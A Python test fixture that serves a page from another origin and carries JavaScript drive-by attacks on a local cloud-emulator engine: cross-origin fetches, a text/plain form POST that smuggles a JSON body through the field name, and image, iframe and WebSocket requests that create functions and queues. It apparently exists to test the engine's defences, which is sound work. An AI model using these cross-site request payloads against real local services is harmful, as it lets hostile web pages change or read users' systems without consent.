"""A web page of another origin, and the attacks that it tries on the local engine."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

EVIL = "evil.example"
"""A host name that resolves to this machine in the browsers of these tests."""

FETCHED, SENT, PICTURED = ("drive-by-fetch", "drive-by-form", "drive-by-picture")
"""What exists in the engine after a successful attack: two functions and a queue."""

ATTACKS = """async (engine, socket, request, names) => {
    const [fetched, sent, pictured] = names;
    const body = (name) => JSON.stringify({ ...request, FunctionName: name });
    const outcomes = {};
    const attack = async (name, run) => {
        outcomes[name] = await run().catch((error) => `${error.name}`);
    };
    const loaded = (element, ...kinds) =>
        new Promise((done) => {
            for (const kind of kinds) element.addEventListener(kind, () => done(kind));
        });
    await attack("fetch without asking", async () => {
        const options = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" } };
        const response = await fetch(`${engine}/2015-03-31/functions`, { ...options, body: body(fetched) });
        return response.type;
    });
    await attack("fetch that reads", async () => (await fetch(`${engine}/_localstack/health`)).text());
    await attack("fetch that asks first", async () => {
        const response = await fetch(`${engine}/2015-03-31/functions/${fetched}`, { method: "DELETE" });
        return response.status;
    });
    await attack("form", async () => {
        const frame = document.createElement("iframe");
        Object.assign(frame, { name: "there", src: "/" });
        document.body.append(frame);
        await loaded(frame, "load");
        const form = document.body.appendChild(document.createElement("form"));
        Object.assign(form, { method: "POST", enctype: "text/plain", target: "there" });
        form.action = `${engine}/2015-03-31/functions`;
        const field = form.appendChild(document.createElement("input"));
        // The form puts an equals sign between name and value; inside a string of the JSON that does no harm.
        field.name = `${body(sent).slice(0, -1)},"Description":"`;
        field.value = '"}';
        const loadedAgain = loaded(frame, "load");
        form.submit();
        return loadedAgain;
    });
    await attack("picture", async () => {
        const picture = document.body.appendChild(new Image());
        picture.referrerPolicy = "no-referrer";
        const loadedAgain = loaded(picture, "load", "error");
        picture.src = `${engine}/?Action=CreateQueue&QueueName=${pictured}`;
        return loadedAgain;
    });
    await attack("page in a frame", async () => {
        const frame = document.body.appendChild(document.createElement("iframe"));
        const loadedAgain = loaded(frame, "load");
        frame.src = `${engine}/?Action=CreateQueue&QueueName=${pictured}`;
        return loadedAgain;
    });
    await attack("socket", async () => {
        const live = new WebSocket(socket);
        return loaded(live, "open", "error");
    });
    return outcomes;
}"""
"""Returns what the page learned from each attack."""


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Respond with an empty page, or redirect the browser to the URL in `to=`."""
        _, _, target = self.path.partition("?to=")
        self.send_response(302 if target else 200)
        if target:
            self.send_header("Location", target)
        body = b"<!doctype html><title>Another origin</title><body></body>"
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - the base class's name
        """Write no log."""


@contextmanager
def foreign() -> Iterator[int]:
    """Serve the page on a port of this machine; the value is the port."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield int(server.server_port)
        server.shutdown()
